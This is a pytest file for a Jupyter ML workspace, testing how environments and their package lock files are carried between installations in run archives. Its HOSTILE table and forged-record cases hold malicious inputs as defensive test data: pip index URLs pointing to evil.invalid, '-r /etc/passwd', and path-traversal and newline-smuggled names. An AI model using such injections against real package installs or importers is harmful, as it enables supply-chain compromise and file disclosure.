"""Environments travel with the runs that name them, and come to mean nothing that nobody asked for."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from archives import add_run, end, forge, parts, services

from jupyter_mlws.api.routes import Upload
from jupyter_mlws.domain.archive import ImportReport
from jupyter_mlws.domain.environment import Environment, EnvironmentLock, EnvironmentSpec, NewEnvironment
from jupyter_mlws.domain.locks import lock_digest
from jupyter_mlws.domain.rerun import Rerun
from jupyter_mlws.domain.run import Run
from jupyter_mlws.environments.locking import system
from jupyter_mlws.errors import ArchiveError, InvalidInput, InvalidName
from jupyter_mlws.services import Services
from jupyter_mlws.store import Store
from jupyter_mlws.store import environments as rows
from jupyter_mlws.store.runs import get_submission

SIX = EnvironmentSpec(packages=("six",), python="3.11")


def locked(version: str = "1.17.0", digest: str = "a" * 64) -> EnvironmentLock:
    text = f"six=={version} \\\n    --hash=sha256:{digest}\n"
    return EnvironmentLock(system=system(), python="3.11", digest=lock_digest("3.11", system(), text), text=text)


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Services]:
    folder = tmp_path / "here"
    folder.mkdir()
    store = Store.open(folder)
    yield services(store, folder, "here")
    store.close()


@pytest.fixture
def there(tmp_path: Path, store_factory: Callable[..., Store]) -> Services:
    return services(store_factory(), tmp_path / "there", "there")


def register(api: Services, name: str = "sk", spec: EnvironmentSpec = SIX, lock: EnvironmentLock | None = None) -> Any:
    made = api.environments.register(NewEnvironment(name=name, spec=spec))
    if lock is not None:
        resolve(api, made, lock)
    return made


def resolve(api: Services, environment: Environment, lock: EnvironmentLock) -> None:
    with api.store.write() as c:
        rows.put_lock(c, environment, system=lock.system, python=lock.python, digest=lock.digest, body=lock.text)


def run_in(api: Services, environment: str) -> Run:
    return add_run(api, environment=environment)


def carried(here: Services, there: Services, **which: Any) -> ImportReport:
    return there.archives.import_file(Upload(here.archives.export(**which).read()))


def known(api: Services, name: str = "sk") -> list[str]:
    return [item.id for item in api.environments.list(name).items]


def test_a_version_comes_with_its_lock_once(here: Services, there: Services) -> None:
    register(here, lock=locked())
    register(here, "unused")
    run = run_in(here, "sk")
    report = carried(here, there)
    assert (report.environments_added, report.notes) == (1, ())
    assert "Added 1 environment." in str(report)
    found = there.environments.get("sk", 1)
    assert (found.spec, found.labels) == (SIX, ("imported-1",))
    assert there.environments.lock("sk", 1) == locked()
    assert there.runs.get(run.id).environment == "sk:1"
    assert there.environments.list().items == (found,)
    again = carried(here, there)
    assert (again.environments_added, known(there)) == (0, ["sk:1"])
    run_in(here, "sk")
    assert carried(here, there).environments_added == 0
    assert known(there) == ["sk:1"]


def test_the_same_packages_are_the_same_version(here: Services, there: Services) -> None:
    register(here, lock=locked())
    register(there, spec=replace(SIX, packages=("attrs",)))
    register(there, lock=locked())
    run = run_in(here, "sk")
    report = carried(here, there)
    assert (report.environments_added, report.notes) == (0, ("The environment sk:1 is sk:2 here.",))
    assert known(there) == ["sk:2", "sk:1"]
    assert there.runs.get(run.id).environment == "sk:2"


def test_what_is_something_else_here_is_a_new_version_and_the_run_is_told(here: Services, there: Services) -> None:
    register(here, lock=locked())
    register(there, spec=replace(SIX, packages=("attrs",)))
    run = run_in(here, "sk")
    sweep = add_run(here, environment="sk", kind="sweep", sweep=({"a": "1"}, {"a": "2"}), ended=None)
    for child in here.runs.list(parent=sweep.id).items:
        end(here, child)
    assert "The environment sk:1 is sk:2 here." in str(carried(here, there))
    assert known(there) == ["sk:2", "sk:1"]
    for each in there.runs.list(include_children=True).items:
        with there.store.read() as c:
            assert (each.environment, get_submission(c, each.id).environment) == ("sk:2", "sk:2")
    assert there.environments.lock("sk", 2) == locked()
    assert there.runs.rerun(run.id, Rerun()).environment == "sk:2"


@pytest.mark.parametrize("resolved_here", [True, False])
def test_a_lock_of_somebody_else_changes_no_version_that_is_here(
    here: Services, there: Services, resolved_here: bool
) -> None:
    register(here, lock=locked("6.6.6"))
    own = register(there, lock=locked() if resolved_here else None)
    run = run_in(here, "sk")
    carried(here, there)
    assert there.runs.get(run.id).environment == "sk:2"
    assert there.environments.lock("sk", 2) == locked("6.6.6")
    with there.store.read() as c:
        assert rows.find_lock(c, own, system()) == (locked().text if resolved_here else None)


def test_a_bare_name_never_means_what_came_with_an_archive(here: Services, there: Services) -> None:
    register(here, lock=locked("6.6.6"))
    run_in(here, "sk")
    carried(here, there)
    with pytest.raises(InvalidInput, match=r"came with an archive.*Name its version: sk:1"):
        run_in(there, "sk")
    assert run_in(there, "sk:1").environment == "sk:1"
    assert run_in(there, "sk@imported-1").environment == "sk:1"
    assert register(there).id == "sk:2"  # the same words, and not its packages
    assert run_in(there, "sk").environment == "sk:2"


def test_an_imported_version_becomes_ones_own_when_its_label_is_taken_away(here: Services, there: Services) -> None:
    register(here, lock=locked())
    run_in(here, "sk")
    carried(here, there)
    there.environments.remove_label("sk", "imported-1")
    assert run_in(there, "sk").environment == "sk:1"
    with pytest.raises(InvalidName, match="came with an archive"):
        there.environments.set_label("sk", "imported-1", 1)


def test_a_shipped_environment_is_not_replaced_by_an_archive(here: Services, there: Services) -> None:
    run = run_in(here, "minimal")
    resolve(here, here.environments.get("minimal"), locked("6.6.6"))
    carried(here, there)
    imported = there.runs.get(run.id).environment
    assert there.environments.lock(*imported.split(":")[:1], version=1) == locked("6.6.6")
    own = there.environments.get("minimal")
    assert own.id != imported
    with there.store.read() as c:
        assert rows.find_lock(c, own, system()) is None


def test_numbers_of_versions_stay_small(here: Services, there: Services) -> None:
    register(here, lock=locked())
    run = run_in(here, "sk")
    entries = parts(here.archives.export().read())
    text = entries["records.jsonl"].decode()
    text = text.replace('"version":1,', '"version":999999999999,').replace('"sk:1"', '"sk:999999999999"')
    there.archives.import_file(Upload(forge({**entries, "records.jsonl": text.encode()})))
    assert there.runs.get(run.id).environment == "sk:1"


def test_variables_that_look_secret_are_not_carried(here: Services, there: Services) -> None:
    variables = {"OMP_NUM_THREADS": "1", "HF_TOKEN": "hf_canary", "WANDB_API_KEY": "secret:wandb"}
    register(here, spec=replace(SIX, environment_variables=variables))
    add_run(here, environment="sk", secrets={"wandb": "kept nowhere"})
    archive = here.archives.export().read()
    assert b"hf_canary" not in parts(archive)["records.jsonl"]
    there.archives.import_file(Upload(archive))
    spec = there.environments.get("sk", 1).spec
    assert spec.environment_variables == {"OMP_NUM_THREADS": "1", "WANDB_API_KEY": "secret:wandb"}


HOSTILE = {
    "an index": "--index-url http://evil.invalid\nsix==1 --hash=sha256:" + "a" * 64,
    "a file": "-r /etc/passwd",
    "an address": "six @ http://evil.invalid/six.whl --hash=sha256:" + "a" * 64,
    "no hash": "six==1",
    "an option": "six==1 --hash=sha256:" + "a" * 64 + " --config-settings=a=b",
    "behind a comment": "# nothing \\\n--index-url http://evil.invalid",
    "a folder": "-e .",
    "much": "six==1;" + " " * 2_000_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_lock_that_says_more_than_versions_is_refused(here: Services, there: Services, name: str) -> None:
    text = HOSTILE[name]
    bad = replace(locked(), text=text, digest=lock_digest("3.11", system(), text))
    register(here, lock=bad)
    run_in(here, "sk")
    with here.store.read() as c:
        assert rows.find_lock(c, here.environments.get("sk"), system()) == text
    with pytest.raises((ArchiveError, InvalidInput)):
        carried(here, there)
    assert (there.runs.list().items, there.environments.list().items) == ((), ())


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"digest":"', '"digest":"0'),
        ('"name":"sk"', '"name":"../sk"'),
        ('"name":"sk"', '"name":"kernel\\u0000"'),
        ('"version":1', '"version":0'),
        ('"kind":"system_managed"', '"kind":"other"'),
        ('"packages":["six"]', '"packages":["six\\n--index-url x"]'),
        ('"system":"', '"system":"/'),
        ('"python":"3.11"', '"python":"../../x"'),
    ],
)
def test_a_forged_environment_is_refused(here: Services, there: Services, old: str, new: str) -> None:
    register(here, lock=locked())
    run_in(here, "sk")
    entries = parts(here.archives.export().read())
    lines = entries["records.jsonl"].decode().splitlines(keepends=True)
    [place] = [i for i, line in enumerate(lines) if line.startswith('{"environment"')]
    assert old in lines[place]
    lines[place] = lines[place].replace(old, new)
    with pytest.raises(ArchiveError):
        there.archives.import_file(Upload(forge({**entries, "records.jsonl": "".join(lines).encode()})))
    twice = [*lines[: place + 1], json.dumps({"unknown": 1}) + "\n", *lines[place:]]
    with pytest.raises(ArchiveError):
        there.archives.import_file(Upload(forge({**entries, "records.jsonl": "".join(twice).encode()})))
    assert there.environments.list().items == ()
